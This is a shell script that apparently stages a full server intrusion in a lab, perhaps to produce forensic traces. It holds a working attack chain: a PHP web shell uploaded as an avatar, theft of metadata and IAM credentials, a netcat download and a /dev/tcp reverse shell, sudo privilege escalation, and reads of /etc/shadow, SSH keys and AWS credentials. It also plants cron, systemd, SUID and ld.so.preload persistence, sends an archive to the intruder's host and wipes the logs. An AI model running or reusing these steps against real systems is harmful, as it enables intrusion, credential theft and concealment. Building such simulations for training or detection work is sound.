# Everybody who reaches the host over the network; nothing of this is recorded but what it causes there.
site=http://10.0.0.5
shell=$site/uploads/avatar.php
intruder=198.51.100.23

run() {  # a command through the web shell
  curl -s --interface $intruder --max-time 3 -G --data-urlencode "c=$1" $shell > /dev/null
}

# The cloud's metadata service, and the intruder's server: gives files, takes uploads.
mkdir -p /srv/meta/latest/meta-data/iam/security-credentials /srv/loot
echo '{"AccessKeyId": "EXAMPLE"}' > /srv/meta/latest/meta-data/iam/security-credentials/web
(cd /srv/meta && python3 -m http.server --bind 169.254.169.254 80 > /dev/null 2>&1) &
cp /usr/bin/nc.traditional /srv/loot/k
(cd /srv/loot && python3 -c '
import http.server
class Server(http.server.SimpleHTTPRequestHandler):
    def do_PUT(self):
        self.rfile.read(int(self.headers["Content-Length"]))
        self.send_response(201)
        self.end_headers()
http.server.HTTPServer(("198.51.100.23", 8080), Server).serve_forever()' > /dev/null 2>&1) &
until curl -s --interface 10.0.0.20 -o /dev/null $site/; do sleep 0.2; done

# The monitoring, and an administrator at work.
(while sleep 3; do curl -s --interface 10.0.0.20 -o /dev/null $site/; done) &
ssh="ssh -q -b 10.0.0.20 -i /home/deploy/.ssh/id_ed25519 -o StrictHostKeyChecking=no deploy@10.0.0.5"
(
  $ssh 'cd /srv/app && git status --short && make && ls -l'
  sleep 9
  $ssh 'tail -n 2 /var/log/nginx/access.log; uptime; cd /srv/app && python3 main.py && git log --oneline'
) > /dev/null 2>&1 &
sleep 4

# The way in: an "avatar".
echo '<?php system($_GET["c"]);' > /tmp/avatar.php
curl -s --interface $intruder -F f=@/tmp/avatar.php $site/profile.php > /dev/null
# Discovery.
run 'id; uname -a'
sleep 1
run 'cat /etc/passwd; ss -ltn; ps aux'
sleep 1
run 'find / -perm -4000 -type f; sudo -n -l'
sleep 1
run 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web'
sleep 1
# A foothold.
run 'curl -s http://198.51.100.23:8080/k -o /tmp/.k && chmod +x /tmp/.k && /tmp/.k -z 10.0.0.5 22'
sleep 1
(
  sleep 2; echo 'id'
  sleep 1; echo 'sudo -n find /srv -maxdepth 0 -exec /bin/bash \;'
  # Credentials.
  sleep 1; echo 'cat /etc/shadow > /tmp/.s'
  sleep 1; echo 'grep -rl "PRIVATE KEY" /home /root'
  sleep 1; echo 'cat /home/deploy/.ssh/id_ed25519; cat /root/.aws/credentials'
  # Persistence.
  sleep 1; echo 'cp /tmp/.k /usr/lib/.php-session; echo "*/5 * * * * root /usr/lib/.php-session -e /bin/sh 198.51.100.23 4444" > /etc/cron.d/php-sessions'
  sleep 1; echo 'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLE x" >> /root/.ssh/authorized_keys'
  sleep 1; echo 'printf "[Service]\nExecStart=/usr/lib/.php-session\n" > /etc/systemd/system/php-session.service'
  sleep 1; echo 'useradd -m -s /bin/bash svc-php; usermod -aG sudo svc-php'
  sleep 1; echo 'cp /bin/bash /usr/local/bin/phpctl; chmod u+s /usr/local/bin/phpctl'
  sleep 1; echo 'cp /usr/lib/x86_64-linux-gnu/libz.so.1 /usr/lib/libcache.so; echo /usr/lib/libcache.so > /etc/ld.so.preload'
  # Exfiltration.
  sleep 1; echo 'tar -czf /tmp/.b.tgz /etc /home /srv/app 2> /dev/null'
  sleep 1; echo 'curl -s -T /tmp/.b.tgz http://198.51.100.23:8080/b'
  # Traces.
  sleep 1; echo 'rm -f /tmp/.b.tgz /tmp/.s /root/.bash_history; cat /dev/null > /var/log/auth.log; rm -f /var/log/nginx/access.log'
  sleep 1; echo 'exit'; echo 'exit'
) | nc -l -s $intruder -p 4444 -q 1 > /dev/null &
sleep 0.5
run "bash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'"
wait %4 2> /dev/null
sleep 30
